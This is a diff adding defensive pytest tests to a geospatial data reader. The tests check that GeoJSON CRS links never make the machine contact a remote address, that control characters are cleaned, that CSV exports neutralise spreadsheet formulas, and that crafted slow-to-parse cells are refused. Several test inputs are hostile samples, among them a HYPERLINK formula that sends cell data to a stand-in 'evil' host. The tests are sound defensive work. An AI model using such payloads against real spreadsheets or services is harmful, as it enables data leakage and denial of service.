@@ -2,19 +2,29 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+import re
 import struct
 import subprocess
 import sys
+import threading
 import zipfile
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as some
 
-from crmmap.exchange.readers import limits, read, spatial
+from crmmap import Filters, load
+from crmmap.exchange.folders import write_folder
+from crmmap.exchange.readers import joined, limits, read, spatial
+from crmmap.exchange.readers.fates import as_csv
 from crmmap.exchange.readers.files import SUFFIXES, read_raw
+from crmmap.exchange.writers import select, write
 from crmmap.strict import UnusableFile
+from crmmap.tables import Sheet
 from tests.exchange import samples
 
 CSV = b"name,lat,lon,commodity\nA,-12.5,28.2,copper\n"
@@ -111,6 +121,131 @@ def test_other_faults(whole, tmp_path):
     none = tmp_path / "a.geojson"
     none.write_text('{"type": "FeatureCollection", "features": []}')
     refused(none, "has no features", whole)
+
+
+class Listener:
+    """An address of this machine that notes who asks."""
+
+    def __init__(self) -> None:
+        self.asked: list[str] = []
+        outer = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self):
+                outer.asked.append(self.path)
+                self.send_response(200)
+                self.end_headers()
+                self.wfile.write(b"EPSG:4326")
+
+            def log_message(self, *_):
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_port}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+
+@pytest.fixture
+def listener():
+    made = Listener()
+    yield made
+    made.server.shutdown()
+    made.server.server_close()
+
+
+def geojson(head: str) -> str:
+    point = '{"type": "Feature", "properties": {"name": "A"}, "geometry": {"type": "Point", "coordinates": [28, -12]}}'
+    return '{"type": "FeatureCollection", ' + head + '"features": [' + point + "]}"
+
+
+@pytest.mark.parametrize("kind", ["link", "url", "LINK", "OGC"])
+def test_a_file_makes_the_machine_ask_no_other(whole, tmp_path, listener, kind):
+    path = tmp_path / "a.geojson"
+    crs = f'"crs": {{"type": "{kind}", "properties": {{"href": "{listener.url}/x", "url": "{listener.url}/y"}}}}, '
+    path.write_text(geojson(crs))
+    refused(path, "the address of another file or computer, which is never asked; save it in WGS 84", whole)
+    path.write_text(geojson('"crs": null, ' + crs.replace(": ", ":")))
+    refused(path, "names a key twice", whole)
+    assert listener.asked == []
+
+
+def test_gdal_itself_reaches_nobody(tmp_path, listener):
+    """Should a file get past the look at its first level."""
+    path = tmp_path / "a.geojson"
+    path.write_text(geojson(f'"crs": {{"type": "link", "properties": {{"href": "{listener.url}/x"}}}}, '))
+    code = (
+        "import sys; from pathlib import Path; from crmmap.exchange.readers import spatial\n"
+        "spatial._check_json = lambda *_: None\n"
+        "spatial.read_spatial(Path(sys.argv[1]), 'a.geojson')\n"
+    )
+    subprocess.run([sys.executable, "-c", code, str(path)], capture_output=True, timeout=120, check=False)
+    assert listener.asked == []
+
+
+def test_named_reference_systems_are_read(tmp_path):
+    path = tmp_path / "a.geojson"
+    path.write_text(geojson('"crs": {"type": "name", "properties": {"name": "urn:ogc:def:crs:OGC:1.3:CRS84"}}, '))
+    assert read_raw(path).geometry.iloc[0].x == 28
+
+
+CONTROLS = ["A\rB", "A\r\nB", "A\nB", "A\u2028B", "A\u2029B", "A\u0085B", "A\x1b[31mB", "A\x00B", "A\tB"]
+
+
+@pytest.mark.parametrize("name", CONTROLS)
+def test_control_characters_become_blanks_and_the_folder_can_be_read_again(whole, tmp_path, name):
+    path = tmp_path / "a.json"
+    path.write_text(json.dumps([{"name": name + "\r=1+1", "lat": -82.1, "lon": 10.5, "commodity": "tin"}]))
+    brought = read(path, whole)
+    said = brought.tables["sites"]["name"].iloc[0]
+    assert re.fullmatch(r"A [^\x00-\x1f\u2028]*B =1\+1", said)
+    write_folder(joined(whole, brought), tmp_path / "data")
+    assert said in set(load(tmp_path / "data").sites["name"])
+
+
+def test_half_a_character_does_not_stop_the_saving(whole, tmp_path):
+    path = tmp_path / "a.json"
+    path.write_text('[{"name": "A\\ud800B", "lat": -82.1, "lon": 10.5, "commodity": "tin"}]')
+    brought = read(path, whole)
+    assert brought.tables["sites"]["name"].tolist() == ["A B"]
+    assert as_csv(brought.fates)
+
+
+@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t=", "\r=", "x\r=", "＝", "＋"])
+def test_no_csv_hands_a_formula_to_a_spreadsheet(whole, tmp_path, begin):
+    path = tmp_path / "a.json"
+    evil = f'{begin}HYPERLINK("http://evil/?"&A1,"x")'
+    path.write_text(json.dumps([{"name": evil, "lat": -82.1, "lon": 10.5, "commodity": "tin", "owner": evil}]))
+    brought = read(path, whole)
+    after = joined(whole, brought)
+    new = after.sites[after.sites["owner"] != ""].tail(1)
+    texts = [as_csv(brought.fates), Sheet("", new.drop(columns="geometry"), "").to_csv()]
+    texts.append(write(select(after, Filters()).only("sites"), "csv")[0])
+    for text in texts:
+        cells = [cell for row in csv.reader(io.StringIO(text.decode("utf-8-sig"), newline="")) for cell in row]
+        assert [cell for cell in cells if "evil" in cell]
+        assert not [cell for cell in cells if cell.lstrip("\t\r\n ")[:1] in set("=+@＝＋") and "evil" in cell]
+        assert b"\r" not in text
+
+
+def test_cells_made_to_hold_up_the_reading_are_refused(tmp_path):
+    """Each of these took minutes to hours; the process that reads them here has one."""
+    rows = [
+        {"name": "pair", "position": "1,2" + " " * 30_000 + "x", "commodity": "tin"},
+        {"name": "degrees", "lat": "1" + " " * 30_000 + "x", "lon": "2" + " " * 30_000, "commodity": "tin"},
+        {"name": "brackets", "lat": "-82", "lon": "10", "country": "(" * 31_000, "commodity": "tin"},
+        {"name": "digits", "lat": "-82", "lon": "11", "country": "1" * 31_000 + "x", "commodity": "(" * 31_000},
+        {"name": "wells", "lat": "-82", "lon": "12", "kind": "well " * 6_000, "commodity": "tin"},
+    ]
+    path = tmp_path / "slow.json"
+    path.write_text(json.dumps([{**row, "n": place} for row in rows for place in range(40)]))
+    code = (
+        "import sys, crmmap; from crmmap.exchange.readers import read\n"
+        "mapping = {name: name for name in ('name', 'country', 'kind', 'position')}\n"
+        "mapping |= {'latitude': 'lat', 'longitude': 'lon', 'commodities': 'commodity'}\n"
+        "print(read(sys.argv[1], crmmap.load(), columns=mapping, table='sites').totals)\n"
+    )
+    run = subprocess.run([sys.executable, "-c", code, str(path)], capture_output=True, text=True, timeout=60)
+    assert "'read': 200" in run.stdout, run.stderr[-2000:]
 
 
 def test_rows_and_vertices_are_bounded(whole, tmp_path, monkeypatch):
